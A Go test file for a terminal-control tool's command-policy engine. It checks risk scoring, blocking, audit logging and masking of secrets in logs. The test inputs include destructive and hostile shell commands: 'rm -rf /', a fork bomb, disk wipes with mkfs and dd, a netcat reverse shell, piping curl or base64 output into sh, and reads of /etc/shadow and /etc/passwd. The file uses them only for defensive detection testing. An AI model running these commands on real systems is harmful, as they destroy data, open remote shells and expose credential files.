package policy

import (
	"context"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"go.uber.org/zap"
	"gorm.io/gorm"
	"gorm.io/gorm/logger"

	"github.com/gluk-w/termctl/internal/apperr"
	"github.com/gluk-w/termctl/internal/database"
	"github.com/gluk-w/termctl/internal/sshaudit"
)

func setupTestDB(t *testing.T) *gorm.DB {
	t.Helper()
	db, err := database.Open(filepath.Join(t.TempDir(), "test.db"), logger.Silent)
	if err != nil {
		t.Fatalf("open test db: %v", err)
	}
	t.Cleanup(func() { database.Close(db) })
	return db
}

func newTestEngine(t *testing.T) (*Engine, *sshaudit.Memory) {
	t.Helper()
	sink := &sshaudit.Memory{}
	e, err := New(context.Background(), setupTestDB(t), sink, zap.NewNop())
	if err != nil {
		t.Fatalf("new engine: %v", err)
	}
	return e, sink
}

func mustCreate(t *testing.T, e *Engine, in RuleInput) *Rule {
	t.Helper()
	r, err := e.CreateRule(context.Background(), in)
	if err != nil {
		t.Fatalf("create rule %q: %v", in.Name, err)
	}
	return r
}

// --- Built-in rules ---

func TestBuiltins_Seeded(t *testing.T) {
	e, _ := newTestEngine(t)
	rules, err := e.ListRules(context.Background(), RuleFilter{})
	if err != nil {
		t.Fatalf("list: %v", err)
	}
	if len(rules) != len(builtinRules) {
		t.Fatalf("expected %d built-in rules, got %d", len(builtinRules), len(rules))
	}
	for _, r := range rules {
		if !r.Builtin || !r.Enabled || r.Type != TypePattern {
			t.Errorf("unexpected built-in rule: %+v", r)
		}
		wantAction := ActionWarn
		if r.Severity == SeverityCritical {
			wantAction = ActionBlock
		}
		if r.Action != wantAction {
			t.Errorf("rule %q: expected action %s, got %s", r.Name, wantAction, r.Action)
		}
	}
	if rules[0].Severity != SeverityCritical {
		t.Errorf("expected critical rules first, got %s", rules[0].Severity)
	}
}

func TestBuiltins_SeededOnce(t *testing.T) {
	db := setupTestDB(t)
	ctx := context.Background()
	e, err := New(ctx, db, nil, zap.NewNop())
	if err != nil {
		t.Fatalf("new engine: %v", err)
	}
	rules, _ := e.ListRules(ctx, RuleFilter{Severity: SeverityLow})
	if len(rules) != 1 {
		t.Fatalf("expected 1 low built-in, got %d", len(rules))
	}
	if err := e.DeleteRule(ctx, rules[0].ID); err != nil {
		t.Fatalf("delete: %v", err)
	}

	e2, err := New(ctx, db, nil, zap.NewNop())
	if err != nil {
		t.Fatalf("second engine: %v", err)
	}
	all, _ := e2.ListRules(ctx, RuleFilter{})
	if len(all) != len(builtinRules)-1 {
		t.Errorf("deleted built-in came back: %d rules", len(all))
	}
}

// --- Evaluation ---

func TestAuditCommand_RootDeleteBlocked(t *testing.T) {
	e, sink := newTestEngine(t)
	cc := CheckContext{EndpointID: 4, SessionToken: "tok", Actor: sshaudit.Actor{Username: "alice"}}

	v, err := e.AuditCommand(context.Background(), "rm -rf /", cc)
	if err != nil {
		t.Fatalf("audit: %v", err)
	}
	if v.Allowed {
		t.Error("expected rm -rf / to be blocked")
	}
	if v.RiskLevel != SeverityCritical {
		t.Errorf("expected critical risk, got %s", v.RiskLevel)
	}
	if len(v.Violations) < 1 {
		t.Error("expected at least one violation")
	}

	events := sink.ByAction(sshaudit.ActionCommandAudit)
	if len(events) != 1 {
		t.Fatalf("expected exactly 1 command_audit event, got %d", len(events))
	}
	ev := events[0]
	if ev.Status != sshaudit.StatusBlocked || ev.Result != "blocked" || ev.Category != sshaudit.CategorySecurity {
		t.Errorf("unexpected audit event: %+v", ev)
	}
	if ev.RiskLevel != SeverityCritical || ev.EndpointID != 4 || ev.SessionToken != "tok" || ev.Username != "alice" {
		t.Errorf("audit event missing context: %+v", ev)
	}
	if ev.Metadata["execution_id"] != v.ExecutionID {
		t.Errorf("expected execution id in metadata, got %v", ev.Metadata)
	}
}

func TestAuditCommand_AllowedIsAudited(t *testing.T) {
	e, sink := newTestEngine(t)
	v, err := e.AuditCommand(context.Background(), "uptime", CheckContext{})
	if err != nil {
		t.Fatalf("audit: %v", err)
	}
	if !v.Allowed || v.RiskLevel != SeverityLow || len(v.Violations) != 0 {
		t.Errorf("unexpected verdict: %+v", v)
	}
	events := sink.ByAction(sshaudit.ActionCommandAudit)
	if len(events) != 1 || events[0].Status != sshaudit.StatusSuccess {
		t.Errorf("expected one success audit, got %+v", events)
	}
}

func TestAuditCommand_SensitiveMasked(t *testing.T) {
	e, sink := newTestEngine(t)
	_, err := e.AuditCommand(context.Background(), "mysql -u root --password=hunter2", CheckContext{})
	if err != nil {
		t.Fatalf("audit: %v", err)
	}
	_, err = e.AuditCommand(context.Background(), "vault login s.abcdef", CheckContext{Sensitive: true})
	if err != nil {
		t.Fatalf("audit: %v", err)
	}
	events := sink.Events()
	if strings.Contains(events[0].Command, "hunter2") {
		t.Errorf("password leaked into audit: %q", events[0].Command)
	}
	if events[1].Command != "vault ****" {
		t.Errorf("expected sensitive command masked, got %q", events[1].Command)
	}
}

func TestEvaluate_Builtins(t *testing.T) {
	e, _ := newTestEngine(t)
	tests := []struct {
		cmd     string
		allowed bool
		risk    string
	}{
		{"ls -la", true, SeverityLow},
		{"rm -rf /", false, SeverityCritical},
		{"rm -rf /*", false, SeverityCritical},
		{"rm -rf /tmp/build", true, SeverityLow},
		{":(){ :|:& };:", false, SeverityCritical},
		{"mkfs.ext4 /dev/sdb1", false, SeverityCritical},
		{"dd if=/dev/zero of=/dev/sda bs=1M", false, SeverityCritical},
		{"fdisk /dev/sda --delete 1", false, SeverityCritical},
		{"sudo rm -rf /var/tmp/x", true, SeverityHigh},
		{"nc 10.0.0.1 4444 -e /bin/bash", true, SeverityHigh},
		{"curl https://get.example.com | sh", true, SeverityMedium},
		{"wget -qO- https://x.example | bash", true, SeverityMedium},
		{"cat /etc/shadow", true, SeverityMedium},
		{"find . -name '*.log' | xargs rm", true, SeverityMedium},
		{"echo aGk= | base64 -d | sh", true, SeverityMedium},
		{"perl -e 'print 1'", true, SeverityLow},
	}
	for _, tt := range tests {
		v := e.Evaluate(tt.cmd, CheckContext{})
		if v.Allowed != tt.allowed {
			t.Errorf("Evaluate(%q) allowed=%v, want %v (violations: %+v)", tt.cmd, v.Allowed, tt.allowed, v.Violations)
		}
		if v.RiskLevel != tt.risk {
			t.Errorf("Evaluate(%q) risk=%s, want %s", tt.cmd, v.RiskLevel, tt.risk)
		}
	}
}

func TestEvaluate_PerlOneLinerIsLowViolation(t *testing.T) {
	e, _ := newTestEngine(t)
	v := e.Evaluate("perl -e 'print 1'", CheckContext{})
	if len(v.Violations) != 1 || v.Violations[0].Severity != SeverityLow {
		t.Errorf("expected one low violation, got %+v", v.Violations)
	}
}

func TestEvaluate_RuleTypes(t *testing.T) {
	e, _ := newTestEngine(t)
	mustCreate(t, e, RuleInput{Name: "no reboot", Type: TypeBlacklist, Content: "shutdown, reboot ,", Severity: SeverityHigh, Action: ActionBlock})
	mustCreate(t, e, RuleInput{Name: "read only", Type: TypeWhitelist, Content: "ls, cat, echo", Severity: SeverityLow})
	mustCreate(t, e, RuleInput{Name: "no subshells", Type: TypeCustom, Content: "subshell", Severity: SeverityMedium})

	v := e.Evaluate("REBOOT now", CheckContext{})
	if v.Allowed || v.RiskLevel != SeverityHigh || len(v.Violations) != 2 {
		t.Errorf("expected blacklist block plus whitelist miss, got %+v", v)
	}
	if v.Violations[0].RuleType != TypeBlacklist {
		t.Errorf("expected higher severity violation first, got %s", v.Violations[0].RuleType)
	}

	v = e.Evaluate("ls /tmp", CheckContext{})
	if !v.Allowed || len(v.Violations) != 0 {
		t.Errorf("expected whitelisted command to pass, got %+v", v)
	}

	v = e.Evaluate("echo $(whoami)", CheckContext{})
	if !v.Allowed || v.RiskLevel != SeverityMedium || len(v.Violations) != 1 || v.Violations[0].RuleType != TypeCustom {
		t.Errorf("expected custom predicate hit, got %+v", v)
	}
}

func TestEvaluate_CustomPredicates(t *testing.T) {
	e, _ := newTestEngine(t)
	mustCreate(t, e, RuleInput{Name: "prod guard", Type: TypeCustom, Content: "prod-endpoint", Action: ActionBlock})

	if v := e.Evaluate("uptime", CheckContext{EndpointID: 9}); !v.Allowed {
		t.Error("unregistered predicate must not match")
	}

	e.RegisterPredicate("prod-endpoint", func(_ string, cc CheckContext) bool { return cc.EndpointID == 9 })
	if v := e.Evaluate("uptime", CheckContext{EndpointID: 9}); v.Allowed {
		t.Error("expected registered predicate to block")
	}
	if v := e.Evaluate("uptime", CheckContext{EndpointID: 1}); !v.Allowed {
		t.Error("predicate should only match endpoint 9")
	}
}

func TestEvaluate_CriticalWarnIsAllowed(t *testing.T) {
	e, _ := newTestEngine(t)
	mustCreate(t, e, RuleInput{Name: "loud", Type: TypePattern, Content: "^danger", Severity: SeverityCritical, Action: ActionWarn})

	v := e.Evaluate("DANGER zone", CheckContext{})
	if !v.Allowed {
		t.Error("critical rule with warn action must not block")
	}
	if v.RiskLevel != SeverityCritical {
		t.Errorf("expected critical risk, got %s", v.RiskLevel)
	}

	st, err := e.Stats(context.Background(), nil)
	if err != nil {
		t.Fatalf("stats: %v", err)
	}
	if len(st.InconsistentRules) != 1 || st.InconsistentRules[0] != "loud" {
		t.Errorf("expected inconsistent rule reported, got %v", st.InconsistentRules)
	}
}

func TestEvaluate_Recommendations(t *testing.T) {
	e, _ := newTestEngine(t)

	v := e.Evaluate("ls", CheckContext{})
	if len(v.Recommendations) != 0 {
		t.Errorf("expected no recommendations without violations, got %v", v.Recommendations)
	}

	v = e.Evaluate("rm -rf /", CheckContext{})
	want := []string{"High-risk", "dangerous pattern", "Deletion cannot be undone"}
	for _, w := range want {
		found := false
		for _, r := range v.Recommendations {
			if strings.Contains(r, w) {
				found = true
			}
		}
		if !found {
			t.Errorf("missing recommendation containing %q in %v", w, v.Recommendations)
		}
	}

	v = e.Evaluate("curl https://x.example | sh; curl https://y.example | sh", CheckContext{})
	seen := map[string]bool{}
	for _, r := range v.Recommendations {
		if seen[r] {
			t.Errorf("duplicate recommendation %q", r)
		}
		seen[r] = true
	}
}

func TestEvaluate_ConcurrentWithMutations(t *testing.T) {
	e, _ := newTestEngine(t)
	r := mustCreate(t, e, RuleInput{Name: "toggle me", Type: TypeBlacklist, Content: "forbidden", Action: ActionBlock})
	ctx := context.Background()

	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				v := e.Evaluate("run forbidden thing", CheckContext{})
				if !v.Allowed && len(v.Violations) == 0 {
					t.Error("blocked verdict without violations")
				}
			}
		}()
	}
	for i := 0; i < 5; i++ {
		if _, err := e.ToggleRule(ctx, r.ID); err != nil {
			t.Errorf("toggle: %v", err)
		}
	}
	wg.Wait()
}

// --- Stats ---

func TestStats_CommandAudits(t *testing.T) {
	db := setupTestDB(t)
	ctx := context.Background()
	auditor := sshaudit.NewAuditor(db, zap.NewNop(), 90)
	e, err := New(ctx, db, auditor, zap.NewNop())
	if err != nil {
		t.Fatalf("new engine: %v", err)
	}

	for _, cmd := range []string{"uptime", "rm -rf /", "cat /etc/passwd"} {
		if _, err := e.AuditCommand(ctx, cmd, CheckContext{}); err != nil {
			t.Fatalf("audit %q: %v", cmd, err)
		}
	}

	st, err := e.Stats(ctx, nil)
	if err != nil {
		t.Fatalf("stats: %v", err)
	}
	if st.Audits.Total != 3 || st.Audits.Blocked != 1 {
		t.Errorf("unexpected audit stats: %+v", st.Audits)
	}
	if st.Audits.ByRisk[SeverityLow] != 1 || st.Audits.ByRisk[SeverityCritical] != 1 || st.Audits.ByRisk[SeverityMedium] != 1 {
		t.Errorf("unexpected risk breakdown: %v", st.Audits.ByRisk)
	}
	if st.Rules.Total != len(builtinRules) || st.Rules.Enabled != len(builtinRules) {
		t.Errorf("unexpected rule totals: %+v", st.Rules)
	}
	if st.Rules.ByType[string(TypePattern)] != len(builtinRules) {
		t.Errorf("expected all built-ins counted as pattern, got %v", st.Rules.ByType)
	}
	if len(st.InconsistentRules) != 0 {
		t.Errorf("built-ins should be consistent, got %v", st.InconsistentRules)
	}
}

func TestAuditCommand_SinkFailure(t *testing.T) {
	db := setupTestDB(t)
	ctx := context.Background()
	auditor := sshaudit.NewAuditor(db, zap.NewNop(), 90)
	e, err := New(ctx, db, auditor, zap.NewNop())
	if err != nil {
		t.Fatalf("new engine: %v", err)
	}
	if err := db.Migrator().DropTable(&database.AuditLog{}); err != nil {
		t.Fatalf("drop table: %v", err)
	}

	v, err := e.AuditCommand(ctx, "uptime", CheckContext{})
	if err == nil {
		t.Fatal("expected error when the audit write fails")
	}
	if v == nil || !v.Allowed {
		t.Errorf("verdict should still be returned, got %+v", v)
	}
	if apperr.IsKind(err, apperr.KindPolicyBlocked) {
		t.Error("audit failure is not a policy block")
	}
}
